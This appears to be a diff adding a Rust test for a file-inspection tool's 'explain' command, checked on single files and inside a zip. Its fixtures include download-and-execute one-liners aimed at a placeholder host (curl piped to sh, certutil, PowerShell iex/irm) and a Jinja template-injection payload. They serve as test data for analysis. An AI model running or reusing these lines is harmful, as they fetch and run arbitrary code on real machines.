@@ -110,3 +110,32 @@ fn hostile_names_and_content_reach_explain_and_inspect_as_text() {
     let ran = stage.run(&["explain", &fingerprint, "--report", "report.json"], &BTreeMap::new());
     assert_eq!(ran.code, Some(0), "{}", ran.stderr());
 }
+
+/// Code of each language that models carry: a name, the source, and what its listing must show.
+const CODE: &[(&str, &str, &str)] = &[
+    ("a.py", "import os\nos.system('touch here')\n", "touch here"),
+    ("b.sh", "curl -s http://x.example/a | sh\n", "http://x.example/a"),
+    ("c.bat", "certutil -urlcache -f http://x.example/a a.exe & a.exe\r\n", "certutil"),
+    ("d.ps1", "iex (irm http://x.example/a)\n", "irm http"),
+    ("e.lua", "os.execute('touch here')\n", "os.execute"),
+    ("f.R", "system('touch here')\n", "system("),
+    ("g.jinja", "{{ cycler.__init__.__globals__.os.popen('touch here') }}\n", "__globals__"),
+];
+
+#[test]
+fn code_of_every_language_is_explained_alone_and_in_a_container() {
+    let stage = Stage::new();
+    let mut zip = testkit::zip::ZipWriter::new();
+    for (name, code, _) in CODE {
+        stage.write(name.as_bytes(), code.as_bytes());
+        zip = zip.stored(*name, code.as_bytes());
+    }
+    stage.write(b"all.zip", &zip.finish());
+    for (name, _, shown) in CODE {
+        for target in [(*name).to_owned(), format!("all.zip!/{name}")] {
+            let ran = stage.run(&["explain", &target], &BTreeMap::new());
+            assert!(matches!(ran.code, Some(0 | 1 | 3)), "{target}: {:?} {}", ran.code, ran.stderr());
+            assert!(ran.stdout().contains(shown), "{target}\n{}", ran.stdout());
+        }
+    }
+}
